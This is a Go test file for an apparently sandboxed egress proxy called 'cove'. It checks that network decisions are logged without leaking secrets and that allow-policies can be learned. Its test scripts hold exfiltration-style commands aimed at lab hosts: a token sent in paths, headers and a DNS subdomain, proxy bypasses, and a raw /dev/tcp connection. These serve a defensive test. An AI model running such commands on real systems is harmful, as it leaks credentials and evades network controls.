//go:build linux

package egress

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cove-sandbox/cove/api"
	"github.com/cove-sandbox/cove/test/holdings"
)

// recorded are the decisions that "cove network log" has, oldest first.
func (l *lab) recorded(t *testing.T, args ...string) []api.Decision {
	t.Helper()
	got := l.cove(t, append([]string{"network", "log", "--json", "-n", "500"}, args...)...)
	var list api.DecisionList
	if err := json.Unmarshal([]byte(got.stdout), &list); err != nil {
		t.Fatalf("%v: %+v", err, got)
	}
	return list.Decisions
}

// TestRecorded: as soon as a command has ended, all that it tried is in the
// record, whichever way it went, and no secret is.
func TestRecorded(t *testing.T) {
	l := newLab(t)
	got := l.inside(t, `
curl -s --max-time 20 https://key.lab.test/mirror >/dev/null
curl -s --max-time 20 "https://good.lab.test/a/$LAB_TOKEN/b?token=$LAB_TOKEN" -H "X: $LAB_TOKEN" -d "$LAB_TOKEN" >/dev/null
curl -s --max-time 20 "https://good.lab.test/k/x`+key+`y" >/dev/null
curl -s --noproxy '*' --max-time 20 https://bad.lab.test/ >/dev/null
curl -s --max-time 20 "http://$LAB_TOKEN.bad.lab.test/" >/dev/null
curl -s --proxytunnel --max-time 20 http://bad.lab.test:8080/ >/dev/null
curl -s --max-time 20 -X DELETE http://good.lab.test/gone >/dev/null
exec 3<>/dev/tcp/good.lab.test/81
for i in 1 2 3 4 5 6 7 8; do curl -s --max-time 20 http://bad.lab.test/loop; done >/dev/null
true`, "--allow", "key.lab.test", "--allow", "good.lab.test", "--credential", "lab")
	if got.code != 0 {
		t.Fatalf("%+v", got)
	}
	all := l.recorded(t)
	find := func(name string, which func(d api.Decision) bool) api.Decision {
		t.Helper()
		i := slices.IndexFunc(all, which)
		if i < 0 {
			t.Fatalf("%s is not recorded; there is %+v", name, all)
		}
		return all[i]
	}
	of := func(host, path string) func(api.Decision) bool {
		return func(d api.Decision) bool { return d.Host == host && d.Path == path }
	}
	d := find("what got a credential", of("key.lab.test", "/mirror"))
	if d.Verdict != api.VerdictAllow || d.Stage != api.StageUpstream || d.Protocol != api.ProtocolHTTPS ||
		d.Method != "GET" || d.Status != 200 || d.Port != 443 ||
		d.Received == 0 || d.Duration == 0 || d.Client != "local" || d.Execution == "" || d.Sandbox == "" ||
		d.Rule == "" || d.Count != 1 {
		t.Errorf("%+v", d)
	}
	if d = find("a path with a placeholder", of("good.lab.test", "/a/…/b")); d.Method != "POST" || d.Sent == 0 {
		t.Errorf("%+v", d)
	}
	find("a path with a value", of("good.lab.test", "/k/…"))
	d = find("a lookup", func(d api.Decision) bool { return d.Entry == api.EntryDNS && d.Host == "bad.lab.test" })
	if d.Verdict != api.VerdictDeny || d.Stage != api.StagePolicy ||
		d.Remedy != "cove policy allow "+d.Execution+" bad.lab.test" {
		t.Errorf("%+v", d)
	}
	d = find("a tunnel", func(d api.Decision) bool { return d.Host == "bad.lab.test" && d.Port == 8080 })
	if d.Verdict != api.VerdictDeny || d.Status != 403 || d.Path != "/" ||
		!strings.HasSuffix(d.Remedy, " bad.lab.test:8080") {
		t.Errorf("%+v", d)
	}
	if d = find("another method", of("good.lab.test", "/gone")); d.Method != "DELETE" || d.Protocol != api.ProtocolHTTP {
		t.Errorf("%+v", d)
	}
	find("a connection without a word", func(d api.Decision) bool { return d.Port == 81 && d.Verdict == api.VerdictDeny })
	looped := int64(0)
	for _, d := range all {
		if d.Path == "/loop" {
			looped += d.Count
		}
	}
	if looped != 8 {
		t.Errorf("%d of 8 in a loop are counted", looped)
	}
	for _, d := range l.recorded(t, all[0].Execution, "--denied", "--host", "bad.lab.test") {
		if d.Verdict != api.VerdictDeny || d.Host != "bad.lab.test" {
			t.Errorf("not asked for: %+v", d)
		}
	}

	for _, secret := range []string{"canary", "lab_"} { // the value, and the beginning of its placeholder
		found, n, err := holdings.Search(secret, filepath.Join(l.dir, "home"))
		if len(found) != 0 || err != nil || n == 0 {
			t.Errorf("%q is in %q of %d files, %v", secret, found, n, err)
		}
	}
}

// TestLearn: what was denied is learned, and then allowed; a run without bounds
// is learned from, and then bound to what it did.
func TestLearn(t *testing.T) {
	l := newLab(t)
	learned := filepath.Join(l.dir, "learned.yaml")
	learn := func(args ...string) string {
		t.Helper()
		if got := l.cove(t, append([]string{"policy", "learn", "--out", learned}, args...)...); got.code != 0 {
			t.Fatalf("%+v", got)
		}
		if got := l.cove(t, "policy", "check", learned); got.code != 0 {
			t.Errorf("check: %+v", got)
		}
		text, err := os.ReadFile(learned)
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}

	for _, flag := range []string{"", " --noproxy '*'"} { // by the proxy, and by names that have no address
		script := "curl -sS --max-time 20" + flag + " https://good.lab.test/a/path"
		if got := l.inside(t, script, "--network", "limited"); strings.Contains(got.stdout, "over https") {
			t.Fatalf("it was not denied: %+v", got)
		}
		text := learn("--last", "--force")
		if got := l.inside(t, script, "--policy", learned); got.stdout != "GET good.lab.test/a/path over https\n" {
			t.Errorf("with what was learned: %+v\n%s", got, text)
		}
	}

	script := `
curl -sS --max-time 20 https://good.lab.test/v1/items/17
curl -sS --max-time 20 --noproxy '*' https://good.lab.test/v1/items/18
curl -sS --max-time 20 -X POST http://other.lab.test/form`
	wide := l.inside(t, script, "--network", "open")
	if strings.Count(wide.stdout, "over http") != 3 {
		t.Fatalf("%+v", wide)
	}
	if got := l.cove(t, "policy", "learn", "--last", "--out", learned); got.code == 0 ||
		!strings.Contains(got.stderr, "--force") {
		t.Errorf("a file was replaced: %+v", got)
	}
	text := learn("--last", "--force")
	for _, want := range []string{
		"  # tried 2 times: GET /v1/items/17, GET /v1/items/18\n  - hosts: [good.lab.test]\n    ports: [443]\n    methods: " +
			"[GET]\n    paths: [/v1/items/*]\n",
		"  # tried once: POST /form\n  - hosts: [other.lab.test]\n    ports: [80]\n    methods: [POST]\n    paths: [/form]\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("no\n%s in\n%s", want, text)
		}
	}
	if got := l.inside(t, script+"\ncurl -sS --max-time 20 https://good.lab.test/v2", "--policy",
		learned); !strings.HasPrefix(got.stdout, wide.stdout) || !strings.Contains(got.stdout, "blocked") {
		t.Errorf("with what was learned: %+v", got)
	}
}
